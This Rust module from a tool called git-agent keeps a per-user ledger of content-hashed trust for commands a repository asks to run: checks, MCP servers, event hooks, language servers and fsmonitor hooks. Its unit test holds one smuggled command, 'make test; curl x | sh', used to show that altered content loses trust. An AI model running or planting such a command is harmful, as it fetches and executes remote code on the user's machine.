//! One trust model for everything a repository can make git-agent run (issue 22, finding 6).
//!
//! A cloned repository is someone else's: its `.git-agent.toml` `check` is a shell command, its `.mcp.json`
//! names programs to start, and (as they are added) agent hook files and language server suggestions are
//! commands too. Each is an [`Item`]: its [`Kind`], the file it comes from and the exact text that would
//! run, hashed by content. Nothing a repository supplies runs before the user trusted that exact content in
//! that repository; a change (a pull, a branch switch) makes it a new item that must be trusted again.
//!
//! The records live in the user's own state (`$XDG_STATE_HOME/git-agent/trusted`, else
//! `~/.local/state/git-agent/trusted`), one JSON line per trusted item with the repository's git
//! directory: never in the repository, so a clone, a pull or an unpacked archive cannot bring its own
//! consent along. What the user wrote themselves (a `--check` flag, their own config file) is theirs and
//! needs no record.

use std::io::Write;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

/// The file of trust records, under the user's state directory.
const LEDGER_FILE: &str = "git-agent/trusted";

/// What kind of thing a repository asks to run. New kinds (agent hook files, language servers, skills'
/// scripts) join here; a record names its kind, so one kind's trust never stands for another's.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Kind {
    /// `check` in `.git-agent.toml`: run by `fix` and by the git hooks.
    Check,
    /// A `.mcp.json`: the whole file, since every server in it is a command or an endpoint.
    McpServers,
    /// A file of event hooks (`.claude/settings.json`, `.codex/hooks.json`, ...): the whole file, since
    /// every hook in it is a command a session runs.
    EventHooks,
    /// The `[lsp]` table of `.git-agent.toml`: language servers sessions start (they run project code).
    LspServers,
    /// `core.fsmonitor` in the repository's own git config: the hook step 0 asks what changed.
    FsMonitor,
}

impl Kind {
    /// The kind as records and `trust --list` name it.
    pub fn as_str(self) -> &'static str {
        match self {
            Kind::Check => "check",
            Kind::McpServers => "mcp-servers",
            Kind::EventHooks => "event-hooks",
            Kind::LspServers => "lsp-servers",
            Kind::FsMonitor => "fsmonitor",
        }
    }

    /// What running it means, for a person: `the check`, `MCP servers`.
    pub fn words(self) -> &'static str {
        match self {
            Kind::Check => "check (a shell command run by fix and the git hooks)",
            Kind::McpServers => "MCP servers (programs and endpoints sessions start)",
            Kind::EventHooks => "event hooks (commands sessions run before and after tool calls)",
            Kind::LspServers => "language servers (programs sessions start on the checkout)",
            Kind::FsMonitor => "file-system monitor (core.fsmonitor: a hook step 0 runs)",
        }
    }
}

/// One thing a repository asks to run, exactly as it would run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Item {
    pub kind: Kind,
    /// The file it comes from, relative to the top of the work tree (`.git-agent.toml`).
    pub source: String,
    /// The exact text: the command, or the whole file when the file is what runs.
    pub text: String,
}

impl Item {
    /// The repository's `check`.
    pub fn check(command: &str) -> Item {
        Item {
            kind: Kind::Check,
            source: super::syntax::REPO_FILE.to_owned(),
            text: command.to_owned(),
        }
    }

    /// A project's `.mcp.json`, whole.
    pub fn mcp_servers(bytes: &[u8]) -> Item {
        Item {
            kind: Kind::McpServers,
            source: super::syntax::PROJECT_FILE.to_owned(),
            text: String::from_utf8_lossy(bytes).into_owned(),
        }
    }

    /// A repository file of event hooks (`source`, relative to the work tree), whole.
    pub fn event_hooks(source: &str, text: &str) -> Item {
        Item {
            kind: Kind::EventHooks,
            source: source.to_owned(),
            text: text.to_owned(),
        }
    }

    /// A repository's `[lsp]` table, whole (as `.git-agent.toml` would hold it alone).
    pub fn lsp_servers(text: &str) -> Item {
        Item {
            kind: Kind::LspServers,
            source: super::syntax::REPO_FILE.to_owned(),
            text: text.to_owned(),
        }
    }

    /// The file-system monitor hook the repository's own git config names (`core.fsmonitor`).
    pub fn fsmonitor(command: &str) -> Item {
        Item {
            kind: Kind::FsMonitor,
            source: ".git/config".to_owned(),
            text: command.to_owned(),
        }
    }

    /// The content's hash (git's blob id of the text), what a record keeps.
    pub fn hash(&self) -> String {
        gix::objs::compute_hash(
            gix::hash::Kind::Sha1,
            gix::objs::Kind::Blob,
            self.text.as_bytes(),
        )
        .map(|id| id.to_string())
        .unwrap_or_default()
    }
}

/// Where an item stands with the user.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Standing {
    /// This exact content was trusted in this repository.
    Trusted,
    /// Other content from the same file and of the same kind was trusted: it changed since.
    Changed,
    /// Never trusted here.
    New,
}

/// One line of the ledger.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Record {
    /// The repository's common git directory, canonical.
    pub repo: String,
    pub kind: String,
    pub source: String,
    pub hash: String,
    /// Unix seconds.
    pub at: u64,
}

/// The error returned by [`Ledger::trust()`].
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    #[error("there is no state directory to keep trust in (set XDG_STATE_HOME or HOME)")]
    NoStateDir,
    #[error("cannot record the trust in {path}: {source}")]
    Write {
        path: PathBuf,
        source: std::io::Error,
    },
}

/// The user's trust records for one repository.
#[derive(Clone, Debug)]
pub struct Ledger {
    path: Option<PathBuf>,
    repo: String,
}

impl Ledger {
    /// The records of the repository whose common git directory is `common_dir`.
    pub fn for_repo(common_dir: &Path) -> Ledger {
        let repo = std::fs::canonicalize(common_dir).unwrap_or_else(|_| common_dir.to_path_buf());
        Ledger {
            path: ledger_path(),
            repo: repo.display().to_string(),
        }
    }

    /// Every record of this repository, oldest first.
    pub fn records(&self) -> Vec<Record> {
        let Some(path) = &self.path else {
            return Vec::new();
        };
        let text = std::fs::read_to_string(path).unwrap_or_default();
        text.lines()
            .filter_map(|line| serde_json::from_str::<Record>(line).ok())
            .filter(|record| record.repo == self.repo)
            .collect()
    }

    /// Whether `item` may run.
    pub fn standing(&self, item: &Item) -> Standing {
        standing_in(&self.records(), item)
    }

    /// Records that the user trusts `items` as they are now (those already trusted are left as they are).
    pub fn trust(&self, items: &[Item]) -> Result<(), TrustError> {
        let path = self.path.as_ref().ok_or(TrustError::NoStateDir)?;
        let records = self.records();
        let at = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_secs());
        let mut lines = String::new();
        for item in items {
            if standing_in(&records, item) == Standing::Trusted {
                continue;
            }
            let record = Record {
                repo: self.repo.clone(),
                kind: item.kind.as_str().to_owned(),
                source: item.source.clone(),
                hash: item.hash(),
                at,
            };
            if let Ok(line) = serde_json::to_string(&record) {
                lines.push_str(&line);
                lines.push('\n');
            }
        }
        if lines.is_empty() {
            return Ok(());
        }
        let write = |path: &Path| -> std::io::Result<()> {
            if let Some(dir) = path.parent() {
                std::fs::create_dir_all(dir)?;
            }
            // Appended in one write: two processes trusting at once each add their lines whole.
            let mut file = std::fs::OpenOptions::new()
                .create(true)
                .append(true)
                .open(path)?;
            file.write_all(lines.as_bytes())
        };
        write(path).map_err(|source| TrustError::Write {
            path: path.clone(),
            source,
        })
    }
}

fn standing_in(records: &[Record], item: &Item) -> Standing {
    let hash = item.hash();
    let same_place = |r: &&Record| r.kind == item.kind.as_str() && r.source == item.source;
    if records.iter().filter(same_place).any(|r| r.hash == hash) {
        Standing::Trusted
    } else if records.iter().any(|r| same_place(&r)) {
        Standing::Changed
    } else {
        Standing::New
    }
}

/// The ledger's file: `$XDG_STATE_HOME/git-agent/trusted`, else the platform's state or local data
/// directory. Unit tests get a file of their own, so they never touch the developer's records.
fn ledger_path() -> Option<PathBuf> {
    if cfg!(test) {
        return Some(std::env::temp_dir().join(format!(
            "git-agent-unit-trust-{}/{LEDGER_FILE}",
            std::process::id()
        )));
    }
    dirs::state_dir()
        .or_else(dirs::data_local_dir)
        .map(|dir| dir.join(LEDGER_FILE))
}

/// Everything the repository at `workdir` now asks to run: its `check` (from `repo_check`, the value of
/// its `.git-agent.toml`), its `.mcp.json`, its files of event hooks, the language servers of its
/// `.git-agent.toml` (`repo_lsp`, the text of its `[lsp]` tables when it configures a server) and the
/// file-system monitor hook of its own git config (`repo_fsmonitor`, from the store).
///
/// The caller passes what it read of `.git-agent.toml`: the ledger sits below the file reader (which asks
/// it whether `[mcp_servers]` are trusted), so reading the file here again would make the two need each
/// other (issue 24: no file cycles).
pub fn asked(
    workdir: &Path,
    repo_check: Option<&str>,
    repo_lsp: Option<&str>,
    repo_fsmonitor: Option<&str>,
) -> Vec<Item> {
    let mut items = Vec::new();
    if let Some(command) = repo_check.filter(|c| !c.trim().is_empty()) {
        items.push(Item::check(command));
    }
    let mcp = workdir.join(super::syntax::PROJECT_FILE);
    if let Ok(bytes) = crate::safety::bounded::read_bounded(
        &mcp,
        "a configuration file",
        crate::safety::bounded::CONFIG_LIMIT,
    ) {
        items.push(Item::mcp_servers(&bytes));
    }
    for (source, text) in super::event_hooks::repo_files(workdir) {
        items.push(Item::event_hooks(&source, &text));
    }
    if let Some(text) = repo_lsp {
        items.push(Item::lsp_servers(text));
    }
    if let Some(command) = repo_fsmonitor {
        items.push(Item::fsmonitor(command));
    }
    items
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trust_is_per_repository_per_content_and_a_change_is_told_apart() {
        let dir =
            std::env::temp_dir().join(format!("git-agent-trust-ledger-{}", std::process::id()));
        let (one, two) = (dir.join("one/.git"), dir.join("two/.git"));
        std::fs::create_dir_all(&one).expect("dir");
        std::fs::create_dir_all(&two).expect("dir");
        let ledger = Ledger::for_repo(&one);
        let check = Item::check("make test");
        assert_eq!(ledger.standing(&check), Standing::New);
        ledger.trust(std::slice::from_ref(&check)).expect("trust");
        assert_eq!(ledger.standing(&check), Standing::Trusted);
        assert_eq!(
            ledger.standing(&Item::check("make test; curl x | sh")),
            Standing::Changed
        );
        // The same text as another kind, or in another repository, is not trusted.
        assert_eq!(
            ledger.standing(&Item::mcp_servers(b"make test")),
            Standing::New
        );
        assert_eq!(Ledger::for_repo(&two).standing(&check), Standing::New);
        ledger.trust(&[check]).expect("again");
        assert_eq!(ledger.records().len(), 1, "trusting twice records once");
        let _ = std::fs::remove_dir_all(&dir);
    }
}
